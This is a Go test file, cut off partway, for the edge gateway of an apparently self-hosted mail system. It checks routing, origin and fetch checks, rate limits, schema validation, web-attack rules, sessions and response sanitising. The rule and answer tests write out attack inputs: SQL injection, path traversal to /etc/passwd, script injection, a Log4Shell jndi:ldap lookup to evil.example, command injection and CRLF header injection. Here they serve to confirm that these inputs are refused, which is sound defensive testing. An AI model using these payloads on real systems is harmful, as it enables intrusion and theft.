package edge

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"sekisho"
	"sekisho/wire"
)

const (
	mailHost, consoleHost, deskHost, contentHost = "mail.mori.example", "console.mori.example", "desk.mori.example", "content.mori.example"
	mailOrigin                                   = "https://" + mailHost
)

// outside is edge with the roles around it as doubles, which answer what a test wants.
type outside struct {
	*Edge
	t   testing.TB
	now time.Time

	mu      sync.Mutex
	asked   []wire.WebRequest
	answer  wire.WebResponse
	breach  []string
	granted wire.Granting
	denied  bool
	status  sekisho.Status
	signIn  wire.SignIn
	factor  wire.FactorChange
	fresh   time.Time
	error   error
	changes [][]byte
	watched [][]string // the states of each question
	warned  []string
}

var theRules = sync.OnceValues(LoadRules)

func open(t testing.TB, off Layer) *outside {
	t.Helper()
	o := &outside{t: t, now: time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC), status: sekisho.Active, answer: wire.WebResponse{Status: 200, Type: typeJSON, Body: []byte("{}")},
		granted: wire.Granting{Capability: wire.Capability{ID: 7, Secret: []byte("secret")}, Contract: 1, Account: 11}}
	o.fresh = o.now
	rules, err := theRules()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	peer := func(s *wire.Service, r sekisho.Role) *wire.Peer {
		p := wire.NewPeer(r)
		if err := wire.Local(ctx, sekisho.Caller{Role: sekisho.Edge, Instance: 9}, s, p); err != nil {
			t.Fatal(err)
		}
		return p
	}
	none := func(sekisho.Caller, string, error) {}
	store, vault := wire.NewService(sekisho.Store, none), wire.NewService(sekisho.Vault, none)
	webmail, console, desk := wire.NewService(sekisho.Webmail, none), wire.NewService(sekisho.Console, none), wire.NewService(sekisho.Desk, none)
	o.doubles(store, vault)
	ask := func(_ context.Context, _ sekisho.Caller, q wire.WebRequest) (wire.WebResponse, error) {
		o.mu.Lock()
		defer o.mu.Unlock()
		o.asked = append(o.asked, q)
		return o.answer, o.error
	}
	wire.Handle(webmail, wire.WebmailAsk, ask)
	wire.Handle(console, wire.ConsoleAsk, ask)
	wire.Handle(desk, wire.DeskAsk, ask)
	wire.Handle(webmail, wire.WebmailWatch, func(_ context.Context, _ sekisho.Caller, q wire.WebWatch) (wire.WebChange, error) {
		o.mu.Lock()
		defer o.mu.Unlock()
		o.watched = append(o.watched, q.States)
		if len(o.changes) == 0 {
			return wire.WebChange{}, sekisho.E("test", sekisho.Unavailable, nil)
		}
		c := o.changes[0]
		o.changes = o.changes[1:]
		return wire.WebChange{JSON: c}, nil
	})
	apps := fstest.MapFS{}
	for _, app := range []string{"webmail", "console", "desk", "login", "content"} {
		apps[app+"/index.html"] = &fstest.MapFile{Data: []byte("<!doctype html><title>" + app + "</title>")}
		apps[app+"/assets/main-ABC.js"] = &fstest.MapFile{Data: []byte("app()")}
		apps[app+"/assets/main-ABC.js.gz"] = &fstest.MapFile{Data: []byte("\x1f\x8bgz")}
	}
	o.Edge = New(Config{Name: "mori.example", Mail: mailHost, Console: consoleHost, Desk: deskHost, Content: contentHost, Size: 4 << 20, Rules: rules, Off: off, Static: apps,
		Clock: func() time.Time { return o.now }, Report: func(by sekisho.Caller, call string, why error) {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.breach = append(o.breach, call+": "+why.Error())
		}}, Peers{Store: peer(store, sekisho.Store), Vault: peer(vault, sekisho.Vault), Webmail: peer(webmail, sekisho.Webmail), Console: peer(console, sekisho.Console), Desk: peer(desk, sekisho.Desk)})
	return o
}

// doubles answer for store and vault.
func (o *outside) doubles(store, vault *wire.Service) {
	denied := sekisho.E("test", sekisho.Denied, nil)
	wire.Handle(store, wire.StoreIdentity, func(_ context.Context, _ sekisho.Caller, q wire.Identity) (wire.Identified, error) {
		if q.Login != "ann@mori.example" {
			return wire.Identified{}, nil
		}
		return wire.Identified{Contract: 1, Account: 11, Status: o.status, Address: q.Login}, nil
	})
	wire.Handle(store, wire.StorePerson, func(context.Context, sekisho.Caller, wire.PersonQuery) (wire.PersonFound, error) {
		return wire.PersonFound{Address: "ann@mori.example", Name: "Ann", Duty: "user", Language: "ja", Status: o.status}, nil
	})
	wire.Handle(store, wire.StoreWarn, func(_ context.Context, _ sekisho.Caller, q wire.Warning) (wire.Nothing, error) {
		o.warned = append(o.warned, q.What)
		return wire.Nothing{}, nil
	})
	wire.Handle(vault, wire.VaultTyping, func(context.Context, sekisho.Caller, wire.Nothing) (wire.Typing, error) {
		return wire.Typing{Key: []byte("key"), Challenge: []byte("challenge")}, nil
	})
	wire.Handle(vault, wire.VaultCapability, func(_ context.Context, _ sekisho.Caller, q wire.Proof) (wire.Granting, error) {
		if o.denied || len(q.Cookie) == 0 && q.Token == "" && (q.Password == "" || q.Account == 0) {
			return wire.Granting{}, denied
		}
		return o.granted, nil
	})
	wire.Handle(vault, wire.VaultSession, func(_ context.Context, _ sekisho.Caller, q wire.Proof) (wire.SessionState, error) {
		if o.denied || len(q.Cookie) == 0 {
			return wire.SessionState{}, denied
		}
		return wire.SessionState{Session: 5, Contract: 1, Account: 11, Fresh: o.fresh, Expires: o.now.Add(time.Hour)}, nil
	})
	wire.Handle(vault, wire.VaultSignIn, func(_ context.Context, _ sekisho.Caller, q wire.SignIn) (wire.SignedIn, error) {
		o.signIn = q
		if q.Account == 0 || q.Password.Text != "correct horse" && len(q.Password.Typed.Sealed) == 0 {
			return wire.SignedIn{}, denied
		}
		return wire.SignedIn{Cookie: []byte("the cookie"), Device: []byte("the device"), Expires: o.now.Add(time.Hour), Contract: 1, Account: 11}, nil
	})
	wire.Handle(vault, wire.VaultSecond, func(context.Context, sekisho.Caller, wire.Second) (wire.SignedIn, error) {
		return wire.SignedIn{}, denied
	})
	wire.Handle(vault, wire.VaultSecurity, func(context.Context, sekisho.Caller, wire.Proof) (wire.Security, error) { return wire.Security{}, nil })
	wire.Handle(vault, wire.VaultSignOut, func(context.Context, sekisho.Caller, wire.Proof) (wire.Nothing, error) { return wire.Nothing{}, nil })
	wire.Handle(vault, wire.VaultFactor, func(_ context.Context, _ sekisho.Caller, q wire.FactorChange) (wire.FactorChanged, error) {
		o.factor = q
		if len(q.Cookie) == 0 || o.now.Sub(o.fresh) >= freshLife {
			return wire.FactorChanged{}, denied
		}
		return wire.FactorChanged{ID: 3, Secret: "secret", Codes: []string{"a"}}, nil
	})
	wire.Handle(vault, wire.VaultPasskey, func(_ context.Context, _ sekisho.Caller, q wire.PasskeyQuery) (wire.PasskeyBegun, error) {
		return wire.PasskeyBegun{Challenge: []byte("c"), Salt: []byte("s"), User: []byte("u"), Expires: o.now.Add(time.Minute)}, nil
	})
}

// request is one, as a browser on the page of its origin sends it.
type request struct {
	method, url, kind, body string
	cookie                  bool
	header                  map[string]string // "" removes one
}

func (o *outside) send(q request) *http.Response {
	o.t.Helper()
	if q.method == "" {
		q.method = http.MethodGet
	}
	url := q.url
	if strings.HasPrefix(url, "/") {
		url = mailOrigin + url
	}
	r := httptest.NewRequest(q.method, url, strings.NewReader(q.body))
	r.TLS = &tls.ConnectionState{}
	if q.body == "" {
		r.Body, r.ContentLength = http.NoBody, 0
	}
	r.RemoteAddr = "192.0.2.1:4444"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36")
	r.Header.Set("Accept", "*/*")
	r.Header.Set("Sec-Fetch-Site", "same-origin")
	r.Header.Set("Sec-Fetch-Dest", "empty")
	if q.method != http.MethodGet {
		r.Header.Set("Origin", "https://"+r.Host)
	}
	if q.body != "" {
		r.Header.Set("Content-Type", typeJSON)
	}
	if q.kind != "" {
		r.Header.Set("Content-Type", q.kind)
	}
	if q.cookie {
		r.AddCookie(&http.Cookie{Name: sessionCookie, Value: base64url([]byte("the cookie"))})
	}
	for k, v := range q.header {
		if v == "" {
			r.Header.Del(k)
		} else {
			r.Header.Set(k, v)
		}
	}
	w := httptest.NewRecorder()
	o.ServeHTTP(w, r)
	return w.Result()
}

func slug(t testing.TB, r *http.Response) string {
	t.Helper()
	var p struct {
		Type, Title, Detail string
		Status              int
	}
	b, _ := io.ReadAll(r.Body)
	if json.Unmarshal(b, &p) != nil {
		return ""
	}
	if p.Type != "" && (p.Title == "" || p.Detail == "" || p.Status != r.StatusCode || r.Header.Get("Content-Type") != typeProblem) {
		t.Errorf("a problem without its texts: %s", b)
	}
	return strings.TrimPrefix(p.Type, "urn:sekisho:problem:")
}

func (o *outside) expect(what string, q request, status int, want string) {
	o.t.Helper()
	r := o.send(q)
	if got := slug(o.t, r); r.StatusCode != status || got != want {
		o.t.Errorf("%s: %d %q, want %d %q", what, r.StatusCode, got, status, want)
	}
}

const envelope = `{"using":["urn:ietf:params:jmap:core"],"methodCalls":[["Core/echo",{"a":1},"0"]]}`

// TestForward: what edge lets in reaches the role, with what it needs and no more.
func TestForward(t *testing.T) {
	o := open(t, 0)
	r := o.send(request{method: "POST", url: "/jmap/api?x=1", body: envelope, cookie: true, header: map[string]string{"Accept-Language": "fr, ja;q=0.8"}})
	if r.StatusCode != 200 || len(o.asked) != 1 {
		t.Fatalf("%d %s, %d asked", r.StatusCode, slug(t, r), len(o.asked))
	}
	q := o.asked[0]
	if q.Method != "POST" || q.Path != "/jmap/api" || q.Query != "x=1" || string(q.Body) != envelope || q.Type != typeJSON || q.Language != "ja" || q.Origin != mailOrigin ||
		q.Client.String() != "192.0.2.1" || q.Capability.ID != 7 {
		t.Errorf("%+v", q)
	}
	if strings.Contains(fmt.Sprintf("%+v", q), "the cookie") {
		t.Error("the cookie went along")
	}
}

// TestRoutes: what is not in the table does not exist.
func TestRoutes(t *testing.T) {
	o := open(t, 0)
	for _, c := range []struct {
		q      request
		status int
		slug   string
	}{
		{request{url: "/"}, 200, ""},
		{request{url: "/sign-in"}, 200, ""},
		{request{url: "/assets/main-ABC.js"}, 200, ""},
		{request{url: "/assets/main-ABC.js.gz"}, 404, "not-found"},
		{request{url: "/assets/nothing.js"}, 404, "not-found"},
		{request{url: "/assets/../index.html"}, 400, "bad-request"},
		{request{url: "/assets/%2e%2e/index.html"}, 400, "bad-request"},
		{request{url: "//jmap/session", cookie: true}, 400, "bad-request"},
		{request{url: "/jmap//session", cookie: true}, 400, "bad-request"},
		{request{url: "/jmap/nothing", cookie: true}, 404, "not-found"},
		{request{url: "/jmap/download/1/2", cookie: true}, 404, "not-found"},
		{request{url: "/api/v1/contracts", cookie: true}, 404, "not-found"}, // not on this host
		{request{url: "https://" + consoleHost + "/api/v1/contracts", cookie: true}, 200, ""},
		{request{url: "https://" + consoleHost + "/jmap/session", cookie: true}, 404, "not-found"},
		{request{url: "https://" + deskHost + "/auth/session"}, 404, "not-found"},
		{request{url: "https://" + contentHost + "/jmap/session", cookie: true}, 404, "not-found"},
		{request{url: "https://evil.example/"}, 421, "no-such-host"},
		{request{method: "POST", url: "/jmap/session", cookie: true}, 405, "method"},
		{request{method: "TRACE", url: "/"}, 405, "method"},
		{request{method: "PROPFIND", url: "/jmap/api"}, 405, "method"},
		{request{url: "/jmap/session", cookie: true, body: "{}"}, 400, "no-body"},
		{request{method: "POST", url: "/jmap/api", cookie: true, body: "x", kind: "text/plain"}, 415, "media-type"},
		{request{method: "POST", url: "/jmap/api", cookie: true, body: envelope, header: map[string]string{"Content-Encoding": "gzip"}}, 415, "media-type"},
		{request{method: "POST", url: "/auth/password", body: `"` + strings.Repeat("a", smallBody) + `"`}, 413, "too-large"},
	} {
		r := o.send(c.q)
		if got := slug(t, r); r.StatusCode != c.status || got != c.slug {
			t.Errorf("%s %s: %d %q, want %d %q", c.q.method, c.q.url, r.StatusCode, got, c.status, c.slug)
		}
	}
}

// TestFetchLayer tries the rules about where a request comes from alone.
func TestFetchLayer(t *testing.T) {
	o := open(t, LayerRate|LayerRule|LayerSchema|LayerAnswer)
	post := request{method: "POST", url: "/jmap/api", body: envelope, cookie: true}
	with := func(q request, kv ...string) request {
		q.header = map[string]string{}
		for i := 0; i < len(kv); i += 2 {
			q.header[kv[i]] = kv[i+1]
		}
		return q
	}
	get, page, download := request{url: "/jmap/session", cookie: true}, request{url: "/"}, request{url: "/jmap/download/1/2/a.pdf", cookie: true}
	for what, c := range map[string]struct {
		q    request
		fine bool
	}{
		"own page":                      {post, true},
		"another origin":                {with(post, "Origin", "https://evil.example"), false},
		"a sibling":                     {with(post, "Origin", "https://"+contentHost), false},
		"an opaque origin":              {with(post, "Origin", "null"), false},
		"no origin, with a cookie":      {with(post, "Origin", ""), false},
		"cross-site":                    {with(post, "Sec-Fetch-Site", "cross-site"), false},
		"same-site":                     {with(post, "Sec-Fetch-Site", "same-site"), false},
		"typed, with a body":            {with(post, "Sec-Fetch-Site", "none"), false},
		"a form":                        {with(post, "Sec-Fetch-Dest", "document"), false},
		"reading from another site":     {with(get, "Sec-Fetch-Site", "cross-site"), false},
		"reading as a script":           {with(get, "Sec-Fetch-Dest", "script"), false},
		"reading as a frame":            {with(get, "Sec-Fetch-Dest", "iframe"), false},
		"reading by an old browser":     {with(get, "Sec-Fetch-Site", "", "Sec-Fetch-Dest", ""), true},
		"a page":                        {with(page, "Sec-Fetch-Dest", "document", "Sec-Fetch-Site", "cross-site"), true},
		"a page in a frame":             {with(page, "Sec-Fetch-Dest", "iframe"), false},
		"a page as an object":           {with(page, "Sec-Fetch-Dest", "object"), false},
		"a download":                    {with(download, "Sec-Fetch-Dest", "document"), true},
		"a download from elsewhere":     {with(download, "Sec-Fetch-Dest", "document", "Sec-Fetch-Site", "cross-site"), false},
		"a program":                     {with(request{method: "POST", url: "/jmap/api", body: envelope}, "Origin", "", "Sec-Fetch-Site", "", "Sec-Fetch-Dest", "", "Authorization", "Basic YW5uQG1vcmkuZXhhbXBsZTp4"), true},
		"the frame for mails, embedded": {with(request{url: "https://" + contentHost + "/"}, "Sec-Fetch-Dest", "iframe", "Sec-Fetch-Site", "same-site"), true},
	} {
		r := o.send(c.q)
		if refused := slug(t, r) == "cross-site"; refused == c.fine {
			t.Errorf("%s: %d, refused %v", what, r.StatusCode, refused)
		}
	}
}

// TestRateLayer tries the limits alone.
func TestRateLayer(t *testing.T) {
	o := open(t, LayerFetch|LayerRule|LayerSchema|LayerSession|LayerAnswer)
	refused := func(n int, q request) (out int, after string) {
		for range n {
			if r := o.send(q); r.StatusCode == http.StatusTooManyRequests {
				out, after = out+1, r.Header.Get("Retry-After")
			}
		}
		return out, after
	}
	if n, _ := refused(int(sourcePace.burst), request{url: "/robots.txt"}); n != 0 {
		t.Errorf("%d refused within the burst", n)
	}
	if n, after := refused(10, request{url: "/robots.txt"}); n != 10 || after == "" {
		t.Errorf("%d of 10 refused after the burst, Retry-After %q", n, after)
	}
	o.now = o.now.Add(time.Second)
	if n, _ := refused(int(sourcePace.rate), request{url: "/robots.txt"}); n != 0 {
		t.Errorf("%d refused a second later", n)
	}
	o.now = o.now.Add(time.Hour)
	body := request{method: "POST", url: "/auth/password", body: `{"address":"ann@mori.example","password":"wrong"}`}
	if n, _ := refused(int(signingPace.burst)+5, body); n != 5 {
		t.Errorf("%d sign-ins refused", n)
	}
	o.limit = newLimits()
	o.config.Off &^= LayerSession
	if n, _ := refused(int(accountPace.burst)+5, request{url: "/jmap/session", cookie: true}); n != 5 {
		t.Errorf("%d requests of one account refused", n)
	}
	o.config.Exempt = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8"), netip.MustParsePrefix("192.0.2.0/24")}
	if n, _ := refused(int(accountPace.burst)+5, request{url: "/jmap/session", cookie: true}); n != 0 {
		t.Errorf("%d requests of a network without limits refused", n)
	}
}

// TestSchemaLayer tries the schemas alone: the faults name their place.
func TestSchemaLayer(t *testing.T) {
	o := open(t, LayerRate|LayerFetch|LayerRule|LayerAnswer)
	for _, c := range []struct{ url, body, at string }{
		{"/auth/password", `{"address":"a","password":"b","admin":true}`, "/admin"},
		{"/auth/password", `{"address":"a"}`, "/password"},
		{"/auth/password", `{"address":["a"],"password":"b"}`, "/address"},
		{"/auth/password", `{"address":"a","address":"b","password":"c"}`, "/address"},
		{"/auth/password", `{"address":"` + strings.Repeat("a", 321) + `","password":"c"}`, "/address"},
		{"/auth/password", `{"address":"a","password":"b"} {}`, ""},
		{"/auth/password", `{"address":"a","password":"b`, ""},
		{"/auth/password", "{\"address\":\"a\xff\",\"password\":\"b\"}", ""},
		{"/auth/password", `{"address":"a","password":{"a":{"b":{"c":{"d":1}}}}}`, "/password/a/b/c/d"},
		{"/auth/totp", `[]`, ""},
		{"/auth/app-passwords", `{"label":"x","protocols":["telnet"]}`, "/protocols/0"},
		{"/jmap/api", `{"using":[],"methodCalls":[["a",{}]]}`, "/methodCalls/0"},
		{"/jmap/api", `{"using":[],"methodCalls":[["a",{},"0",1]]}`, "/methodCalls/0/3"},
		{"/jmap/api", `{"using":[],"methodCalls":[["a",[],"0"]]}`, "/methodCalls/0/1"},
		{"/jmap/api", `{"using":[],"methodCalls":[` + strings.Repeat(`["a",{},"0"],`, mostCalls) + `["a",{},"0"]]}`, fmt.Sprintf("/methodCalls/%d", mostCalls)},
		{"/jmap/api", `{"using":[],"methodCalls":[["a",{"x":` + strings.Repeat("[", 40) + strings.Repeat("]", 40) + `},"0"]]}`, "/methodCalls/0/1/x"},
		{"/jmap/api", `{"using":[],"methodCalls":[["a",{"x":[` + strings.Repeat("1,", 100_000) + `1]},"0"]]}`, "/methodCalls/0/1/x"},
		{"/jmap/api", `{"using":[],"methodCalls":[],"__proto__":{}}`, "/__proto__"},
		{"https://" + consoleHost + "/api/v1/contracts", `[1]`, ""},
	} {
		r := o.send(request{method: "POST", url: c.url, body: c.body, cookie: true})
		var p struct {
			Errors []struct{ Pointer, Detail string }
		}
		b, _ := io.ReadAll(r.Body)
		json.Unmarshal(b, &p)
		if r.StatusCode != 422 || len(p.Errors) != 1 || !strings.HasPrefix(p.Errors[0].Pointer, c.at) || p.Errors[0].Detail == "" {
			t.Errorf("%s: %d %s, want a fault at %q", shorten(c.body, 80), r.StatusCode, b, c.at)
		}
	}
	for _, kind := range []string{"application/merge-patch+json", "application/vnd.api+json", "text/csv", "text/plain"} { // no other name leads past the schema
		if r := o.send(request{method: "POST", url: "https://" + consoleHost + "/api/v1/contracts", kind: kind, body: `[1]`, cookie: true}); r.StatusCode != 415 && r.StatusCode != 422 {
			t.Errorf("as %s: %d", kind, r.StatusCode)
		}
	}
	if len(o.asked) != 0 {
		t.Errorf("%d requests reached a role", len(o.asked))
	}
}

// TestRuleLayer tries the web rules alone: attacks are refused wherever rules look, and mail is not looked at.
func TestRuleLayer(t *testing.T) {
	o := open(t, LayerRate|LayerFetch|LayerSchema|LayerSession|LayerAnswer)
	for _, q := range []string{"id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "f=../../../../etc/passwd", "s=%3Cscript%3Ealert(1)%3C/script%3E", "x=%24%7Bjndi:ldap://e/a%7D", "cmd=;cat%20/etc/passwd"} {
		o.expect(q, request{url: "https://" + consoleHost + "/api/v1/contracts?" + q, cookie: true}, 403, "refused")
		o.expect("beside mail: "+q, request{method: "POST", url: "/jmap/api?" + q, body: envelope, cookie: true}, 403, "refused")
	}
	attack := `{"name":"1' UNION SELECT password FROM users--"}`
	o.expect("in a body", request{method: "POST", url: "https://" + consoleHost + "/api/v1/contracts", body: attack, cookie: true}, 403, "refused")
	o.expect("in a header", request{url: "/jmap/session", cookie: true, header: map[string]string{"X-Forwarded-Host": "${jndi:ldap://evil.example/a}"}}, 403, "refused")
	mail := strings.Replace(envelope, `"a":1`, `"body":"<script>alert(1)</script> ' UNION SELECT password FROM users-- ; cat /etc/passwd"`, 1)
	o.expect("a mail about attacks", request{method: "POST", url: "/jmap/api", body: mail, cookie: true}, 200, "")
	o.expect("an attachment", request{method: "POST", url: "/jmap/upload/1", kind: "text/html", body: "<script>alert(1)</script>", cookie: true}, 200, "")
	// What was let through once opens nothing for what differs by a word.
	fine := request{url: "/jmap/session", cookie: true}
	o.expect("an app", fine, 200, "")
	seen := len(o.config.Rules.seen)
	o.expect("the same again", fine, 200, "")
	if n := len(o.config.Rules.seen); n != seen || n == 0 {
		t.Errorf("%d lines are remembered after %d, for the same one", n, seen)
	}
	for _, header := range []string{"X-Forwarded-Host", "User-Agent", "Referer"} {
		o.expect("and an attack in "+header, request{url: "/jmap/session", cookie: true, header: map[string]string{header: "${jndi:ldap://evil.example/a}"}}, 403, "refused")
	}
	o.expect("and one in the line", request{url: "/jmap/session?x=%3Cscript%3Ealert(1)%3C/script%3E", cookie: true}, 403, "refused")
	o.expect("a body that is fine", request{method: "POST", url: "https://" + consoleHost + "/api/v1/contracts", body: `{"name":"Mori"}`, cookie: true}, 200, "")
	o.expect("and one that is not", request{method: "POST", url: "https://" + consoleHost + "/api/v1/contracts", body: attack, cookie: true}, 403, "refused")
	o.config.Rules = nil
	o.expect("without rules", request{url: "/jmap/session", cookie: true}, 403, "refused")
}

// TestRulesLetWorkThrough: what people do every day is not refused.
func TestRulesLetWorkThrough(t *testing.T) {
	o := open(t, 0)
	bodies := map[string]string{
		"/auth/password":      `{"address":"tanaka.tarō@mori.example","password":{"challenge":"QUJD","sealed":"` + strings.Repeat("AbC-_1", 60) + `"}}`,
		"/auth/totp":          `{"code":"123456"}`,
		"/auth/recovery":      `{"code":"abcd-efgh-ijkl-mnop"}`,
		"/auth/app-passwords": `{"label":"私の電話 (iPhone)","protocols":["imap","smtp"],"networks":["192.0.2.0/24","2001:db8::/32"]}`,
		"https://" + consoleHost + "/api/v1/contracts": `{"name":"株式会社 森 & Söhne, Inc.","language":"ja","networks":["192.0.2.0/24"]}`,
		"https://" + consoleHost + "/api/v1/policy":    `{"text":"[[rule]]\nname = \"large\"\nwhen = 'message.size > 10 * 1024 * 1024 && !(sender.domain in [\"a.example\"])'\nthen = \"hold\"\n"}`,
	}
	for url, body := range bodies {
		if r := o.send(request{method: "POST", url: url, body: body, cookie: true}); slug(t, r) == "refused" {
			t.Errorf("%s %s was refused", url, body)
		}
	}
	for _, url := range []string{"/jmap/events?types=*&closeafter=no&ping=30", "/jmap/download/A11/Gabc123/" + "%E8%AB%8B%E6%B1%82%E6%9B%B8%20(1).pdf?accept=application/pdf", "/jmap/picture/A11/E5/3?remote=1",
		"https://" + consoleHost + "/api/v1/traces?from=2026-11-01T00:00:00Z&match=%E4%BC%9A%E8%AD%B0&limit=50", "https://" + consoleHost + "/api/v1/accounts?match=o%27brien%40mori.example"} {
		if r := o.send(request{url: url, cookie: true}); slug(t, r) == "refused" {
			t.Errorf("%s was refused", url)
		}
	}
}

// TestSessionLayer: nobody gets through without a proof, nor with one that vault refuses, nor when the account is suspended.
func TestSessionLayer(t *testing.T) {
	o := open(t, 0)
	o.expect("nothing", request{url: "/jmap/session"}, 401, "signed-out")
	o.expect("a cookie", request{url: "/jmap/session", cookie: true}, 200, "")
	o.expect("two cookies", request{url: "/jmap/session", header: map[string]string{"Cookie": sessionCookie + "=QUJD; " + sessionCookie + "=QUJE"}}, 401, "signed-out")
	o.expect("a cookie of another name", request{url: "/jmap/session", header: map[string]string{"Cookie": "sekisho=QUJD"}}, 401, "signed-out")
	program := map[string]string{"Sec-Fetch-Site": "", "Sec-Fetch-Dest": "", "Authorization": "Basic YW5uQG1vcmkuZXhhbXBsZTp4"}
	o.expect("an app password", request{url: "/jmap/session", header: program}, 200, "")
	r := o.send(request{url: "/jmap/session", header: map[string]string{"Sec-Fetch-Site": "", "Authorization": "Basic Ym9iQG1vcmkuZXhhbXBsZTp4"}})
	if r.StatusCode != 401 || r.Header.Get("WWW-Authenticate") == "" {
		t.Errorf("an unknown name: %d", r.StatusCode)
	}
	o.expect("a token", request{url: "https://" + consoleHost + "/api/v1/contracts", header: map[string]string{"Authorization": "Bearer x"}}, 200, "")
	o.denied = true
	o.expect("vault refuses", request{url: "/jmap/session", cookie: true}, 401, "signed-out")
	o.denied, o.status = false, sekisho.Suspended
	o.now = o.now.Add(personLife)
	o.expect("suspended", request{url: "/jmap/session", cookie: true}, 401, "signed-out")
	for what, c := range map[string]bool{"suspended": true, "nobody": false} { // an answer, and nobody behind is asked
		before := len(o.asked)
		if b := answered(t, o.send(request{url: "/jmap/start", cookie: c})); b != `200 {"signedIn":false}` || len(o.asked) != before {
			t.Errorf("the beginning, %s: %s", what, b)
		}
	}
	o.denied = true
	if b := answered(t, o.send(request{url: "/jmap/start", cookie: true})); b != `200 {"signedIn":false}` {
		t.Errorf("the beginning, when vault refuses: %s", b)
	}
	o.expect("desk needs nobody", request{url: "https://" + deskHost + "/desk/link"}, 200, "")
	if q := o.asked[len(o.asked)-1]; q.Capability.ID != 0 {
		t.Error("desk was given a capability")
	}
}

// answered is status and body of an answer.
func answered(t *testing.T, r *http.Response) string {
	t.Helper()
	b, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%d %s", r.StatusCode, strings.TrimSpace(string(b)))
}

// TestAnswerLayer: whatever a role behind answers, a browser gets neither HTML nor script, nor a redirect, nor a header of its
// making; and each attempt is told.
func TestAnswerLayer(t *testing.T) {
	o := open(t, 0)
	png := append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 20)...)
	api, picture, download := "/jmap/session", "/jmap/picture/1/2/3", "/jmap/download/1/2/a"
	json := []byte("{}")
	for what, c := range map[string]struct {
		url string
		a   wire.WebResponse
	}{
		"HTML":                     {api, wire.WebResponse{Status: 200, Type: "text/html", Body: []byte("<script>alert(1)</script>")}},
		"HTML with a parameter":    {api, wire.WebResponse{Status: 200, Type: "application/json; charset=x\r\nX: y", Body: json}},
		"script":                   {api, wire.WebResponse{Status: 200, Type: "text/javascript", Body: []byte("alert(1)")}},
		"SVG":                      {picture, wire.WebResponse{Status: 200, Type: "image/svg+xml", Body: []byte("<svg onload=alert(1)>")}},
		"HTML as a picture":        {picture, wire.WebResponse{Status: 200, Type: "image/png", Body: []byte("<!doctype html><script>alert(1)</script>")}},
		"another picture":          {picture, wire.WebResponse{Status: 200, Type: "image/jpeg", Body: png}},
		"HTML as JSON":             {api, wire.WebResponse{Status: 200, Type: typeJSON, Body: []byte("<script>")}},
		"HTML as a problem":        {api, wire.WebResponse{Status: 404, Type: typeProblem, Body: []byte("<script>")}},
		"an error in HTML":         {api, wire.WebResponse{Status: 500, Type: "text/html", Body: []byte("<b>")}},
		"a problem as success":     {api, wire.WebResponse{Status: 200, Type: typeProblem, Body: json}},
		"a redirect":               {api, wire.WebResponse{Status: 302, Type: typeJSON, Body: json, Begun: "/x"}},
		"a redirect to a host":     {api, wire.WebResponse{Status: 201, Type: typeJSON, Body: json, Begun: "https://evil.example/"}},
		"a redirect without host":  {api, wire.WebResponse{Status: 201, Type: typeJSON, Body: json, Begun: "//evil.example/"}},
		"a header in the place":    {api, wire.WebResponse{Status: 201, Type: typeJSON, Body: json, Begun: "/x\r\nSet-Cookie: a=b"}},
		"a header in the tag":      {api, wire.WebResponse{Status: 200, Type: typeJSON, Body: json, ETag: "x\"\r\nSet-Cookie: a=b"}},
		"status 0":                 {api, wire.WebResponse{}},
		"switching protocols":      {api, wire.WebResponse{Status: 101}},
		"a type that is none":      {download, wire.WebResponse{Status: 200, Type: "text/html\r\nX: y", Body: json}},
		"no type":                  {api, wire.WebResponse{Status: 200, Body: json}},
		"a picture on a JSON path": {api, wire.WebResponse{Status: 200, Type: "image/png", Body: png}},
	} {
		o.answer, o.breach = c.a, nil
		r := o.send(request{url: c.url, cookie: true})
		if got := slug(t, r); r.StatusCode != 502 || got != "upstream" || len(o.breach) != 1 {
			t.Errorf("%s: %d %q, told: %q", what, r.StatusCode, got, o.breach)
		}
		if strings.Contains(r.Header.Get("Location")+r.Header.Get("Content-Type")+r.Header.Get("Set-Cookie"), "evil") || r.Header.Get("Set-Cookie") != "" {
			t.Errorf("%s: %v", what, r.Header)
		}
	}
	o.breach = nil
	o.answer = wire.WebResponse{Status: 200, Type: "text/html", Body: []byte("<script>alert(1)</script>"), Name: "a\"\r\nX: y/../b\u202e.html"}
	r := o.send(request{url: download, cookie: true})
	if r.StatusCode != 200 || r.Header.Get("Content-Type") != "application/octet-stream" || !strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment") || !strings.Contains(r.Header.Get("Content-Security-Policy"), "sandbox") ||
		r.Header.Get("X") != "" || strings.ContainsAny(r.Header.Get("Content-Disposition"), "\r\n") {
		t.Errorf("HTML as a download: %d %v", r.StatusCode, r.Header)
	}
	o.answer = wire.WebResponse{Status: 200, Type: "image/png", Body: png}
	if r := o.send(request{url: picture, cookie: true}); r.StatusCode != 200 || r.Header.Get("Content-Type") != "image/png" || len(o.breach) != 0 {
		t.Errorf("a picture: %d %v %q", r.StatusCode, r.Header, o.breach)
	}
	o.error = sekisho.E("webmail", sekisho.Internal, fmt.Errorf("a secret inside"))
	b, _ := io.ReadAll(o.send(request{url: api, cookie: true}).Body)
	if bytes.Contains(b, []byte("secret inside")) {
		t.Errorf("an error of a role reached the browser: %s", b)
	}
}

// TestHeaders: every answer of every host has the headers, and the policies allow nothing inline.
func TestHeaders(t *testing.T) {
	o := open(t, 0)
	for _, url := range []string{"/", "/sign-in", "/assets/main-ABC.js", "/jmap/session", "/nothing", "/auth/session", "https://" + consoleHost + "/", "https://" + deskHost + "/", "https://" + contentHost + "/", "https://evil.example/"} {
		h := o.send(request{url: url}).Header
		csp := h.Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors "} {
			if !strings.Contains(csp, want) {
				t.Errorf("%s: the policy lacks %s: %s", url, want, csp)
			}
		}
